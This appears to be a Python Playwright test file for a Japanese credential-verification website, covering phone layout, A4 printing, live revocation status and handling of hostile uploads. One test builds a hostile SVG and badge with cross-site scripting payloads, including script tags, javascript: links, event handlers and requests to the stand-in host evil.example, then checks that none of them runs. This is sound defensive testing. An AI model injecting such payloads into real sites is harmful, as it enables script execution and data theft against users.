"""The page of a result in a real browser: what stands where, what is printed, and that strangers' texts do nothing."""

from typing import Any

import pytest
from playwright.sync_api import Browser

from jmc_vc.formats import baking
from tests.browser.connected import NOT_REGISTERED, opened, submit
from tests.browser.pages import PHONE
from tests.builders.installation import award
from tests.builders.lived_in import revoke
from tests.builders.outside_issuer import OutsideIssuer
from tests.builders.pictures import svg
from tests.web.pages.house import House

pytestmark = [pytest.mark.browser, pytest.mark.loopback, pytest.mark.slow]


@pytest.mark.parametrize("language", ["ja", "en"])
@pytest.mark.parametrize("name", ["valid", "revoked", "foreign", "unreachable", "of-another"])
def test_verdict_who_what_whom_and_when_stand_on_the_first_screen_of_a_phone(
    connected: House, browser: Browser, name: str, language: str
) -> None:
    context = browser.new_context(viewport={"width": PHONE[0], "height": PHONE[1]}, java_script_enabled=False)
    tab = context.new_page()
    opened(tab, connected, "/verify", language)
    if name == "of-another":
        tab.locator("details.more-questions summary").click()
        tab.locator("#name").fill("鈴木 太郎")
    tab.locator("#text").fill(connected.bodies["valid" if name == "of-another" else name].decode())
    submit(tab)
    facts = tab.locator(".facts-wide dd")
    assert facts.count() == 4
    last = facts.nth(3).bounding_box()
    assert last is not None
    assert last["y"] + last["height"] <= PHONE[1]
    context.close()


def test_the_result_is_printed_on_a4_with_time_digest_and_address(connected: House, browser: Browser) -> None:
    context = browser.new_context(viewport={"width": 794, "height": 1123})  # A4 at 96 dpi
    tab = context.new_page()
    tab.goto(f"{connected.installation.service.site.base_url}/verify?credential={connected.uuids['valid']}")
    asked = "window.print = () => { document.body.dataset.printed = 'yes' }"
    tab.evaluate(asked)
    tab.get_by_role("button", name="印刷する").click()
    assert tab.locator("body").get_attribute("data-printed") == "yes"
    tab.emulate_media(media="print")
    assert tab.evaluate("document.documentElement.scrollWidth") <= 794
    filed = tab.locator("section[aria-labelledby=filed]")
    text = filed.inner_text()
    assert "2026年11月23日12時00分" in text
    assert f"/verify?credential={connected.uuids['valid']}" in text.replace("\n", "")
    assert filed.locator("code").is_visible()
    assert not tab.locator("section[aria-labelledby=keep]").is_visible()
    assert not tab.locator(".head nav").is_visible()
    assert all(each.is_visible() for each in tab.locator("details > ul").all()), "what is folded is printed too"
    context.close()


HOSTILE_SVG = svg(
    '<script>window.stolen = 1; fetch("https://evil.example/")</script>'
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'
    '<a xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink"><text>x</text></a>'
    "<use href=\"data:image/svg+xml,%3Csvg onload='alert(1)'/%3E\"/>"
    '<animate attributeName="href" to="javascript:alert(1)"/>'
    '<style>@import "https://evil.example/x.css";</style><image href="https://evil.example/x.png"/>',
    attributes=' onload="alert(1)"',
)


@pytest.mark.parametrize("how", ["SV-04 SV-05 a picture with scripts", "AP-18 AP-19 a badge with markup"])
def test_what_strangers_wrote_is_inert(connected: House, browser: Browser, how: str) -> None:
    """Nothing of it runs, is drawn, or is asked for; the policy of the page had nothing to keep away."""
    issuer = OutsideIssuer()
    badge: dict[str, Any] = issuer.badge(name="<img src=x onerror=alert(1)>")
    subject = badge["credentialSubject"]["achievement"]
    subject["name"] = '"><script>alert(1)</script>'
    subject["description"] = "[x](javascript:alert(1)) <svg onload=alert(1)>"
    subject["criteria"]["narrative"] = (
        "[x](javascript:alert(1)) <iframe src=//evil.example></iframe> <data:text/html,x>"
    )
    subject["image"] = {"id": "data:image/svg+xml,%3Csvg%20onload=%22alert(1)%22/%3E", "type": "Image"}
    data = issuer.sign(badge) if how.startswith("AP") else baking.bake(HOSTILE_SVG, issuer.sign(badge))
    base = connected.installation.service.site.base_url
    context = browser.new_context(viewport={"width": 390, "height": 844})
    tab = context.new_page()
    alerts: list[str] = []
    asked: list[str] = []
    told: list[str] = []
    tab.on("dialog", lambda dialog: alerts.append(dialog.message))
    tab.on("request", lambda request: asked.append(request.url))
    tab.on("console", lambda message: told.append(message.text))
    tab.goto(f"{base}/verify?lang=en")
    tab.locator("#file").set_input_files({"name": "x.svg", "mimeType": "image/svg+xml", "buffer": data})
    submit(tab)
    assert tab.get_by_role("heading", level=1).inner_text() == NOT_REGISTERED[1]
    assert "<script>alert(1)</script>" in tab.locator(".what").inner_text()
    assert tab.locator("main img, main iframe, main script, main object, main [onload], main [onerror]").count() == 0
    assert tab.locator("main a[href^=javascript], main a[href^=data], main a[href*=evil]").count() == 0
    assert tab.evaluate("window.stolen") is None
    assert [each for each in asked if not each.startswith(base)] == alerts == told == []
    context.close()


def test_the_live_verdict_stands_above_the_certificate(connected: House, browser: Browser) -> None:
    """Made anew for every reader: a change is seen at once."""
    installation = connected.installation
    issued = installation.issue(award(recipient={**award()["recipient"], "email": "live@learners.example"}))
    context = browser.new_context(java_script_enabled=False)
    tab = context.new_page()
    path = f"{installation.service.site.base_url}/credentials/{issued.credential.uuid}?lang=en"
    tab.goto(path)
    assert "This credential is valid." in tab.locator(".status-line.good").inner_text()
    revoke(installation, issued)
    tab.goto(path)
    assert "This credential has been revoked." in tab.locator(".status-line.bad").inner_text()
    assert tab.locator("a[href$='/bundle']").count() == 1
    context.close()
